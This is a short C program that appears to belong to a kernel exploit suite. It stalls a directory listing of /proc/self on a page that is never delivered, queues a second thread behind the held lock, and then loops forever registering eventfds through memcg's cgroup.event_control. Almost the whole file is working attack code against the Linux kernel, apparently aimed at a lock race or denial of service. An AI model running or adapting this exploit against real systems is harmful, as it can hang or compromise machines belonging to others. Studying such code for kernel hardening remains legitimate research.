/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* directory_lock MOUNT FILE: locks its own directory in /proc, and then registers with memcg/.
 *
 * One thread lists the directory into a page of FILE that its server never delivers, and so holds the
 * directory's lock; a second waits to make something in it, and behind him everybody else who looks for
 * a name there. */
#include "attacker.h"

#include <pthread.h>
#include <sys/eventfd.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#define PAGE_BYTES 4096
#define QUEUED_US 200000

static void *list(void *page) {
    int directory = open("/proc/self", O_RDONLY | O_DIRECTORY);

    syscall(SYS_getdents64, directory, page, PAGE_BYTES);
    return NULL;
}

static void *queue(void *unused) {
    mkdir("/proc/self/x", 0755);
    return unused;
}

int main(int argc, char **argv) {
    int file, usage, event_control;
    pthread_t lister, waiter;
    void *page;

    demand_arguments(argc, 2, "directory_lock MOUNT FILE");
    usage = open_below(argv[1], "memcg/memory.usage_in_bytes", O_RDONLY);
    event_control = open_below(argv[1], "memcg/cgroup.event_control", O_WRONLY);
    file = open(argv[2], O_RDWR);
    page = mmap(NULL, PAGE_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
    if (file < 0 || page == MAP_FAILED)
        fail(argv[2]);

    pthread_create(&lister, NULL, list, page);
    getchar(); /* until the lock is held */
    pthread_create(&waiter, NULL, queue, NULL);
    usleep(QUEUED_US);
    say("attacking");
    for (;;)
        register_eventfd(event_control, eventfd(0, 0), usage);
}
